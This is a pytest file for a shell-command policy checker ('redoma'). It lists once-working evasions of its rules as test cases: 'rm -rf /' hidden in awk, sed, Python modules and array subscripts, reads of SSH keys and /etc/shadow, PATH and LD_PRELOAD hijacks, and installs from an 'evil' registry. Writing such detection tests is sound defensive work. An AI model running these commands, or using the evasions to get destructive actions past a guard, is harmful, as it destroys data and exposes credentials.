"""Ways around the standard pack that were once open, and ordinary work that it once stopped."""

from __future__ import annotations

import pytest

from redoma.models import Decision, Evaluation, Request
from redoma.models.reach import NOTHING
from redoma.policy import evaluate, load
from redoma.policy.facts import UNKNOWN, Command
from redoma.policy.shell import facts_of_script

STANDARD = load("standard")


def judged(script: str) -> Evaluation:
    return evaluate(STANDARD, Request(code=script, language="bash"))


def rules_of(script: str) -> set[str]:
    return {finding.rule for finding in judged(script).findings}


# -- options between the words of a rule ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("script", "rule"),
    [
        ("pip --timeout 5 install evil", "install.python"),
        ("python3 -m pip --timeout 5 install evil", "install.python"),
        ("npm --loglevel silent install evil", "install.node"),
        ("npm --loglevel install install evil", "install.node"),
        ("yarn --registry http://evil add x", "install.node"),
        ("apt-get --option A=B install evil", "install.system"),
        ("apk -X http://evil add x", "install.system"),
        ("poetry -C d add x", "install.python"),
        ("cargo +nightly install evil", "install.other"),
        ("git --attr-source HEAD push --force origin main", "git.force-push"),
        ("git --attr-source remote remote add x y", "network.git"),
        ("podman --runtime x run --privileged y", "privilege.container"),
        ("docker run -v/:/h x", "privilege.container"),
        ("docker run -iv/etc:/h x", "privilege.container"),
        ("docker run -v /etc/:/e x", "privilege.container"),
        ("find / -print0 | xargs -0n 1 rm -f", "remove.by-xargs"),
    ],
)
def test_an_unknown_option_with_a_value_hides_nothing(script: str, rule: str) -> None:
    assert rule in rules_of(script)


@pytest.mark.parametrize(
    "script",
    [
        "git --no-pager stash push",
        "git -P log push",
        "find . -print0 | xargs -0 grep rm",
        "xargs -a list -0n1 grep rm",
        'chmod -R 755 "$dir/public"',
        "npm --silent run install",
        "python -u tool.py -m pip install",
    ],
)
def test_an_option_known_to_take_no_value_makes_no_false_alarm(script: str) -> None:
    assert judged(script).decision is Decision.ALLOW


# -- code and paths that were not seen ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "script",
    [
        "echo ${a['$(rm -rf /)']}",
        "echo \"${a['`rm -rf /`']}\"",
        "echo ${a[$'\\x24\\x28rm -rf /)']}",
        "awk 'BEGIN{system(\"rm -rf /\")}' -f",
        "echo 'BEGIN{system(\"rm -rf /\")}' | awk -f -",
        "echo 'BEGIN{system(\"rm -rf /\")}' > /tmp/x.awk; awk -f /tmp/x.awk",
        "gawk -f /dev/null -e 'BEGIN{system(\"rm -rf /\")}'",
        "awk -vx=f 'BEGIN{system(\"rm -rf /\")}'",
        "sed -f - x <<< '1e rm -rf /'",
        "sed -nf /dev/stdin x <<< '1e rm -rf /'",
    ],
)
def test_code_in_an_unusual_place_is_asked_about(script: str) -> None:
    assert rules_of(script) & {"shell.dynamic-code", "shell.inline-code"}


@pytest.mark.parametrize(
    ("script", "rule"),
    [
        ("cd / && rm -rf ~+", "remove.everything"),
        ("rm -rf ~+", "remove.directory"),
        ("rm -rf ~-", "remove.unknown"),
        ("echo x > ~+/../etc/passwd", "write.system"),
    ],
)
def test_the_tilde_of_the_working_directory_is_followed(script: str, rule: str) -> None:
    assert rule in rules_of(script)


@pytest.mark.parametrize(
    "script",
    [
        "cat < ~/.ssh/id_rsa",
        "< ~/.ssh/id_rsa cat",
        "base64 < ~/.ssh/id_rsa",
        'echo "$(</etc/shadow)"',
        "while read -r x; do echo $x; done < /etc/shadow",
        "cd /etc && cat < shadow",
    ],
)
def test_credentials_read_by_a_redirection_are_seen(script: str) -> None:
    assert "read.credentials" in rules_of(script)


@pytest.mark.parametrize(
    "script",
    ["awk -f report.awk data", "sed -n -f edit.sed x", "echo ${a[$((i + 1))]} ${b['x']}", "sort < in.txt", "ls ~/x"],
)
def test_the_ordinary_forms_of_these_are_allowed(script: str) -> None:
    assert judged(script).decision is Decision.ALLOW


@pytest.mark.parametrize(
    "script",
    [
        "env -C / rm -rf etc",
        "env --chdir=/ rm -rf usr",
        "env --chd / nice rm -rf usr",
        "env -C / env -C etc rm -rf ssl",
        "env -S '-C / rm -rf etc'",
        "sudo -D / rm -rf usr",
    ],
)
def test_a_wrapper_that_changes_directory_is_followed_there(script: str) -> None:
    assert {"write.system", "remove.system-file"} & rules_of(script)


def test_only_the_wrapped_command_runs_in_the_other_directory() -> None:
    assert judged("env -C / ls; rm build").decision is Decision.ALLOW
    assert judged("env -C sub make; echo x > usr/y").decision is Decision.ALLOW


@pytest.mark.parametrize(
    "script",
    [
        "python3 -m timeit 'import os; os.system(\"rm -rf /\")'",
        "python3 -m timeit -s'import os' --setup='import os; os.system(\"rm -rf /\")' pass",
        "python3 -m pdb -c '!import os' x.py",
        "echo 'import os; os.system(\"rm -rf /\")' | python3 -m code",
        "python3 -m cProfile /dev/stdin",
        "python3 -m cProfile -o out -m pip install evil",
        "echo \"import os; os.system('rm -rf /')\" > x.py; python3 -m cProfile -s time x.py",
    ],
)
def test_modules_that_run_code_are_followed(script: str) -> None:
    assert judged(script).decision > Decision.ALLOW


@pytest.mark.parametrize(
    "script",
    [
        "python3 -m timeit -n 5 'sum(range(9))'",
        "python3 -m cProfile -o out.prof -s cumtime app.py",
        "python3 -m venv v",
    ],
)
def test_modules_that_run_harmless_code_are_allowed(script: str) -> None:
    assert judged(script).decision is Decision.ALLOW


@pytest.mark.parametrize(
    "script",
    [
        "cp /bin/rm x && ./x -rf /",
        "ln -s /bin/rm x; ./x -rf /",
        "cp -f /bin/rm /tmp/x; ln /tmp/x y; ./y -rf /",
        "install -m 755 /bin/rm x; ./x -rf /",
        "mv a x; cp /bin/rm d/x; cd d && ./x -rf /",
    ],
)
def test_a_copy_of_a_program_is_that_program(script: str) -> None:
    assert "remove.everything" in rules_of(script)


def test_a_copy_of_a_file_that_was_written_is_read() -> None:
    assert "remove.everything" in rules_of("echo 'rm -rf /' > a.txt; cp a.txt b.sh; bash b.sh")
    assert judged("cp tools/build.sh build.sh && ./build.sh && cp x x; ./x").decision is Decision.ALLOW


@pytest.mark.parametrize(
    "wrapper",
    [
        "ssh-agent",
        "systemd-cat -t x",
        "logsave log",
        "chronic",
        "perf stat -e cycles",
        "numactl -N 0",
        "runcon -t x_t",
        "runcon u:r:t",
        "watchexec -e py",
        "watchexec --",
    ],
)
def test_a_command_behind_a_wrapper_is_seen(wrapper: str) -> None:
    assert "remove.everything" in rules_of(f"{wrapper} rm -rf /")


@pytest.mark.parametrize(
    "script",
    [
        "hyperfine 'rm -rf /'",
        "hyperfine -r 5 --prepare='rm -rf /' ls",
        "start-stop-daemon --start --exec /bin/rm -- -rf /",
        "start-stop-daemon -S --startas=/bin/rm -- -rf /",
    ],
)
def test_a_command_in_an_option_or_operand_is_seen(script: str) -> None:
    assert "remove.everything" in rules_of(script)


@pytest.mark.parametrize(
    "script",
    [
        "git diff --output=/etc/passwd",
        "git archive -o /etc/x HEAD",
        "shuf -o /etc/x a",
        "iconv -o /etc/x a",
        "uniq a /etc/passwd",
        "strace -o /etc/x ls",
        "/usr/bin/time -o /etc/x ls",
        "gzip /etc/passwd",
    ],
)
def test_what_a_less_known_writer_writes_is_seen(script: str) -> None:
    assert "write.system" in rules_of(script)


@pytest.mark.parametrize("script", ["gzip -c /etc/passwd > x.gz", "uniq /etc/passwd", "git push -o ci.skip || true"])
def test_a_reader_of_a_system_file_writes_nothing(script: str) -> None:
    assert "write.system" not in rules_of(script)


@pytest.mark.parametrize(
    ("script", "rule"),
    [
        ("git -C / clean -xfd", "remove.by-git"),
        ("git --work-tree=/ checkout -f .", "remove.by-git"),
        ("tar cf /dev/null --remove-files /home", "remove.by-tar"),
        ("rsync -a --delete empty/ ~/", "remove.by-rsync"),
    ],
)
def test_removal_as_a_side_effect_is_asked_about(script: str, rule: str) -> None:
    assert rule in rules_of(script)


# -- ordinary work --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "script",
    [
        'source "$(dirname "$0")/lib.sh"',
        '. "$(dirname -- "${BASH_SOURCE[0]}")/lib.sh"',
        'SCRIPT_DIR="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"; . "$SCRIPT_DIR/lib.sh"',
        'ROOT=$(cd -- "$(dirname -- "${BASH_SOURCE[0]:-$0}")/.." &>/dev/null && pwd -P)\nsource "$ROOT/lib.sh"',
        "seq 10 | parallel echo {}",
        "ls | parallel gzip",
    ],
)
def test_ordinary_work_is_allowed(script: str) -> None:
    assert judged(script).decision is Decision.ALLOW, rules_of(script)


@pytest.mark.parametrize(
    "script",
    ["find . -type d -name __pycache__ -exec rm -rf {} +", "find -name '*.egg-info' -exec rm -rf {} \\;"],
)
def test_a_removal_in_the_project_asks_on_the_host_and_not_in_a_cell(script: str) -> None:
    assert judged(script).decision is Decision.PROMPT
    in_a_cell = evaluate(STANDARD, Request(code=script, language="bash"), reach=NOTHING)
    assert in_a_cell.decision is Decision.ALLOW
    assert {finding.rule for finding in in_a_cell.findings} == rules_of(script)


def test_the_option_of_a_container_makes_it_no_privileged_one() -> None:
    assert rules_of("docker run -v /etc/localtime:/etc/localtime:ro x") == {"container.run"}


@pytest.mark.parametrize(
    "script",
    [
        "find . -exec rm -rf {} +",
        "find . -name '*' -exec rm -rf {} +",
        "find . -name . -exec rm -rf {} +",
        "find . ! -name x -exec rm -rf {} +",
        "find . -name x -o -exec rm -rf {} +",
        "find . -exec rm -rf {} + -name x",
        "find / -name x -exec rm -rf {} +",
        'source "$(dirname "$1")/$2"',
        'source "$(dirname "$x")/lib.sh"',
        'rm -rf "$(dirname "$0")"',
        'echo x > "$(dirname "$0")/../../etc/passwd"',
        'bash -c \'rm -rf "$(dirname "$0")"\' /etc/x',
        "ls | parallel {}",
        "ls | parallel bash -c {}",
        "ls | parallel rm -rf {}",
        "ls | parallel",
        'retry() { until "$@"; do sleep 1; done; }',
    ],
)
def test_what_only_looks_like_ordinary_work_is_asked_about(script: str) -> None:
    assert judged(script).decision > Decision.ALLOW


# -- PATH, changed otherwise than by an assignment -------------------------------------------------------------------


@pytest.mark.parametrize(
    "script",
    [
        "for PATH in /x/evilbin; do ls; done",
        "for PATH; do ls; done",
        "select PATH in /x/evilbin; do ls; done",
        "printf -v PATH /x/evilbin; ls",
        "printf -vPATH /x/evilbin; ls",
        'printf -v "$1" /x/evilbin; ls',
        "read PATH <<< /x/evilbin; ls",
        "read -r a PATH <<< 'b /x/evilbin'; ls",
        "read -rp 'which? ' PATH; ls",
        "read -a PATH <<< /x/evilbin; ls",
        "read -aPATH <<< /x/evilbin; ls",
        "read PAT? <<< /x/evilbin; ls",
        "read PAT[H] <<< /x/evilbin; ls",
        "builtin read PATH <<< /x/evilbin; ls",
        'read "$x" <<< /x/evilbin; ls',
        "mapfile -t PATH < f; ls",
        "readarray PATH < f; ls",
        "getopts ab PATH; ls",
        "wait -p PATH; ls",
        "unset PATH; ls",
        "unset -v PATH; ls",
        'unset "$x"; ls',
        "f() { local PATH; ls; }; f",
        "declare -n r=PATH; r=/x/evilbin; ls",
        "typeset -gn r='PATH'; r=/x/evilbin; ls",
        ": ${PATH:=/x/evilbin}; ls",
        ': "${PATH=/x/evilbin}"; ls',
        'x=${!y:="/x/evilbin"}; ls',
        "cat <<EOF\n${PATH:=/x/evilbin}\nEOF\nls",
        "let PATH=5; ls",
        "((PATH=5)); ls",
        "((PATH++)); ls",
        "((1 ? PATH=5 : 0)); ls",
        "echo $((PATH = 5)); ls",
        "echo $[PATH=5]; ls",
        "a[PATH=5]=1; ls",
        "for ((PATH=5; ; )); do ls; done",
        "exec {PATH}>/dev/null; ls",
        "read LD_PRELOAD <<< /x/evil.so; ls",
    ],
)
def test_a_hook_is_one_however_it_is_set(script: str) -> None:
    assert "shell.environment-hook" in rules_of(script)


@pytest.mark.parametrize(
    "script",
    [
        "for ENV in dev prod; do echo $ENV; done",
        'while IFS= read -r -d "" line; do echo "$line"; done',
        'read -rp "Delete $x? " answer',
        'read -t 5 -n 1 "a[$i]"',
        "printf '%s' PATH",
        "printf -v line '%s' \"$x\"",
        "unset IFS LD_PRELOAD PAGER x",
        "unset -f PATH",
        ': "${EDITOR:=vim}" "${TMPDIR:=/tmp}" "${n:=$x}"',
        "n=$((n + 1)); ((n++)); let n=n+1",
        'echo "${PATH}>x"; echo "PATH=5"',
        '[[ ":$PATH:" == *":/usr/bin:"* ]] && echo yes',
        "while getopts ab: PATHS; do :; done",
        "f() { local -n out=$1; out=5; }",
        "mapfile -t lines < f",
        "local PATH=/usr/bin",
    ],
)
def test_setting_other_variables_hooks_nothing(script: str) -> None:
    assert not {"shell.environment-hook", "shell.dynamic-code"} & rules_of(script)


@pytest.mark.parametrize(
    "script",
    [
        "REPLY=build; read < list; rm -rf $REPLY",
        "REPLY=build; select x in a b; do rm -rf $REPLY; done",
        "MAPFILE=(build); mapfile < list; rm -rf ${MAPFILE[0]}",
        "f() { read; }; REPLY=build; f < list; rm -rf $REPLY",
        "OPTARG=build; getopts a: x -a /; rm -rf $OPTARG",
        "BASH_REMATCH=(build); [[ $x =~ .* ]]; rm -rf ${BASH_REMATCH[0]}",
        "OLDPWD=build; cd /; cd tmp; rm -rf $OLDPWD",
        "bash -c 'BASH_ARGV0=/; rm -rf $0' build",
    ],
)
def test_a_variable_that_bash_sets_is_not_trusted(script: str) -> None:
    removed = {fact.args for fact in facts_of_script(script) if isinstance(fact, Command) and fact.name == "rm"}
    assert ("-rf", "build") not in removed
    assert ("-rf", UNKNOWN) in removed


def test_a_builtin_changes_only_the_variables_that_it_names() -> None:
    (fact,) = [
        fact
        for fact in facts_of_script("r=a; p=b; x=c; read -r -p 'x? ' y; printf x; getopts x r; rm $p $x")
        if isinstance(fact, Command) and fact.name == "rm"
    ]
    assert fact.args == ("b", "c")
